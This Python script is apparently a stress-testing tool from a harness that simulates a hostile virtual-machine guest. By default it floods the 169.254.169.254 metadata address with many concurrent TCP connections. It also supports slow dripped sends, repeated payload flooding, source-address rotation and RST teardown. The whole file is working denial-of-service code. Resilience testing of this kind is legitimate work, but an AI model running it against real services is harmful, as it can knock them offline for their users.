"""A hostile guest with thousands of connections in one thread. Runs in a guest's namespace; needs only Python.

Its one argument is a plan in JSON (see Plan). It attacks until its standard input ends or plan.seconds are over, then
closes everything and prints the last line. Lines on standard output are JSON, one every quarter of a second: counts
since the start, and how many connections are open now.
"""

from __future__ import annotations

import collections
import errno
import ipaddress
import json
import re
import select
import socket
import struct
import sys
import time

IP_BIND_ADDRESS_NO_PORT = (
    24  # linux/in.h: the port is chosen by connect(2), so that other addresses may have it too
)
STATUS = re.compile(rb"HTTP/1\.1 ([0-9]{3}) ")
TAIL = 12
"""Bytes of a status line's beginning that may be cut in two."""
TELL_EVERY = 0.25
CONNECTS_A_TURN = 64


class Plan:
    """What the attack is; a plan in JSON has these names, missing ones have these values."""

    target = ("169.254.169.254", 80)
    first_source = ""
    """The first of our addresses; none: the kernel's choice."""
    sources = 1
    """So many of them, one after the other, are used in turn."""
    connections = 1
    """Open at once."""
    total = 0
    """After so many there are no more; 0: no bound."""
    rate = 0
    """New connections in a second; 0: as many as may be."""
    seconds = 0.0
    """0: until the end of the standard input."""
    send = ""
    """What a connection begins with; it may be nothing."""
    then = ""
    """What it goes on with, over and over, as fast as it is taken."""
    drip = 0.0
    """Seconds between two of those; 0: none."""
    read = True
    read_bytes = 0
    """With read: a connection that has read so many reads no more; 0: no bound."""
    receive_buffer = 0
    end_after = ""
    """connected, sent or answered: when we end a connection; else never."""
    end_pause = 0.0
    """Seconds between that and the end."""
    reset = False
    """The end is an RST, of all of them when we end ourselves, too."""
    again = False
    """A connection that has ended is followed by another one."""
    times = False
    """The last line has, for each status, the seconds from connecting to the answer."""

    def __init__(self, values: dict[str, object]) -> None:
        for name, value in values.items():
            if not hasattr(Plan, name):
                raise SystemExit(f"a plan has no {name}")
            setattr(self, name, value)


class Connection:
    __slots__ = ("answered", "began", "ending", "read", "sent", "socket", "tail", "unsent")

    def __init__(self, own: socket.socket, now: float, begin: bytes) -> None:
        self.socket = own
        self.began = now
        self.unsent = begin
        self.sent = False
        self.read = 0
        self.answered = False
        self.ending = False
        self.tail = b""


class Attacker:
    def __init__(self, plan: Plan) -> None:
        self.plan = plan
        self.begin = plan.send.encode("latin-1")
        # Many copies in one piece: each send(2) takes as much as the kernel has room for.
        self.more = plan.then.encode("latin-1")
        if self.more and not plan.drip:
            self.more *= max(1, 65536 // len(self.more))
        self.first = int(ipaddress.ip_address(plan.first_source)) if plan.first_source else 0
        self.epoll = select.epoll()
        self.connections: dict[int, Connection] = {}
        self.connecting: set[int] = set()
        self.ends: collections.deque[tuple[float, int, Connection]] = collections.deque()
        self.drips: collections.deque[tuple[float, int, Connection]] = collections.deque()
        self.counts: collections.Counter[str] = collections.Counter()
        self.statuses: collections.Counter[str] = collections.Counter()
        self.times: dict[str, list[float]] = collections.defaultdict(list)
        self.errors: collections.Counter[str] = collections.Counter()
        self.allowance = 0.0

    def run(self) -> None:
        plan = self.plan
        start = allowed_at = time.monotonic()
        tell_at = start
        self.epoll.register(sys.stdin.fileno(), select.EPOLLIN | select.EPOLLHUP)
        while True:
            now = time.monotonic()
            if plan.seconds and now >= start + plan.seconds:
                break
            if plan.rate:
                self.allowance = min(self.allowance + (now - allowed_at) * plan.rate, plan.rate / 10)
                allowed_at = now
            opened = self.open_some(now)
            while self.ends and self.ends[0][0] <= now:
                _, number, connection = self.ends.popleft()
                if self.connections.get(number) is connection:
                    self.end(number, connection)
            while self.drips and self.drips[0][0] <= now:
                _, number, connection = self.drips.popleft()
                if self.connections.get(number) is connection:
                    connection.unsent = self.more
                    self.send(number, connection)
            if now >= tell_at:
                self.tell(last=False)
                tell_at = now + TELL_EVERY
            wait = 0.0 if opened and not plan.rate else 0.02
            for number, events in self.epoll.poll(wait, 512):
                if number == sys.stdin.fileno():
                    self.finish()
                    return
                connection = self.connections.get(number)
                if connection is not None:
                    self.event(number, connection, events)
        self.finish()

    def finish(self) -> None:
        self.tell(last=True)
        for connection in list(self.connections.values()):
            self.close(connection)

    def tell(self, *, last: bool) -> None:
        line: dict[str, object] = {
            "last": last,
            "open": len(self.connections) - len(self.connecting),
            "connecting": len(self.connecting),
            "statuses": self.statuses,
            "errors": self.errors,
            **self.counts,
        }
        if last and self.plan.times:
            line["times"] = self.times
        print(json.dumps(line), flush=True)

    def open_some(self, now: float) -> bool:
        plan = self.plan
        for _ in range(CONNECTS_A_TURN):
            if len(self.connections) >= plan.connections:
                return False
            started = self.counts["started"]
            if plan.total and started >= plan.total:
                return False
            if not plan.again and started >= plan.connections:
                return False
            if plan.rate:
                if self.allowance < 1:
                    return False
                self.allowance -= 1
            if not self.open_one(now):
                return False
        return True

    def open_one(self, now: float) -> bool:
        plan = self.plan
        own = socket.socket()
        own.setblocking(False)
        if plan.receive_buffer:
            own.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, plan.receive_buffer)
        if self.first:
            own.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
            source = ipaddress.ip_address(self.first + self.counts["started"] % plan.sources)
            own.bind((str(source), 0))
        self.counts["started"] += 1
        error = own.connect_ex(tuple(plan.target))
        if error not in (0, errno.EINPROGRESS):
            self.failed(error)
            own.close()
            return False  # no ports are left, or no route: try later
        number = own.fileno()
        self.connections[number] = Connection(own, now, self.begin)
        self.connecting.add(number)
        self.epoll.register(number, select.EPOLLOUT)
        return True

    def failed(self, error: int) -> None:
        self.errors[errno.errorcode.get(error, str(error))] += 1

    def event(self, number: int, connection: Connection, events: int) -> None:
        if number in self.connecting:
            error = connection.socket.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            if error:
                self.failed(error)
                self.forget(number, connection)
                return
            self.connecting.discard(number)
            self.counts["connected"] += 1
            self.watch(number, connection)
            if self.plan.end_after == "connected":
                self.end_soon(number, connection)
                return
        elif events & (select.EPOLLERR | select.EPOLLHUP):
            self.counts["cut"] += 1
            self.forget(number, connection)
            return
        if events & select.EPOLLOUT:
            self.send(number, connection)
        if events & (select.EPOLLIN | select.EPOLLRDHUP) and self.connections.get(number) is connection:
            self.receive(number, connection)

    def watch(self, number: int, connection: Connection) -> None:
        events = select.EPOLLIN if self.plan.read else select.EPOLLRDHUP
        if connection.unsent or not connection.sent:
            events |= select.EPOLLOUT
        self.epoll.modify(number, events)

    def send(self, number: int, connection: Connection) -> None:
        if connection.unsent:
            try:
                sent = connection.socket.send(connection.unsent)
            except BlockingIOError:
                return
            except OSError as error:
                self.failed(error.errno or 0)
                self.forget(number, connection)
                return
            self.counts["bytes_sent"] += sent
            connection.unsent = connection.unsent[sent:]
            if connection.unsent:
                return
        if not connection.sent:
            connection.sent = True
            self.counts["sent"] += 1
            if self.plan.end_after == "sent":
                self.end_soon(number, connection)
                if self.connections.get(number) is not connection:
                    return
        if self.more and not self.plan.drip:
            connection.unsent = self.more
        elif self.more:
            self.drips.append((time.monotonic() + self.plan.drip, number, connection))
        self.watch(number, connection)

    def receive(self, number: int, connection: Connection) -> None:
        try:
            data = connection.socket.recv(65536) if self.plan.read else b""
        except BlockingIOError:
            return
        except OSError as error:
            self.failed(error.errno or 0)
            self.forget(number, connection)
            return
        if not data:
            self.counts["closed"] += 1  # by the other side
            self.forget(number, connection)
            return
        self.counts["bytes_read"] += len(data)
        connection.read += len(data)
        if self.plan.read_bytes and connection.read >= self.plan.read_bytes:
            self.counts["stopped_reading"] += 1
            self.epoll.modify(number, select.EPOLLRDHUP)
        # A whole status line is longer than the tail, so none is counted twice.
        window = connection.tail + data
        for status in STATUS.findall(window):
            self.status(connection, status.decode())
        if b"\r\nRetry-After: " in window:
            self.counts["retry_after"] += 1
        connection.tail = window[-TAIL:]
        if connection.answered and self.plan.end_after == "answered":
            self.end_soon(number, connection)

    def status(self, connection: Connection, status: str) -> None:
        self.statuses[status] += 1
        connection.answered = True
        if self.plan.times:
            self.times[status].append(round(time.monotonic() - connection.began, 3))

    def end_soon(self, number: int, connection: Connection) -> None:
        if connection.ending:
            return
        connection.ending = True
        if self.plan.end_pause:
            self.ends.append((time.monotonic() + self.plan.end_pause, number, connection))
        else:
            self.end(number, connection)

    def end(self, number: int, connection: Connection) -> None:
        self.counts["ended"] += 1
        self.forget(number, connection)

    def forget(self, number: int, connection: Connection) -> None:
        self.connecting.discard(number)
        del self.connections[number]
        self.close(connection)

    def close(self, connection: Connection) -> None:
        if self.plan.reset:
            connection.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        connection.socket.close()


if __name__ == "__main__":
    Attacker(Plan(json.loads(sys.argv[1]))).run()
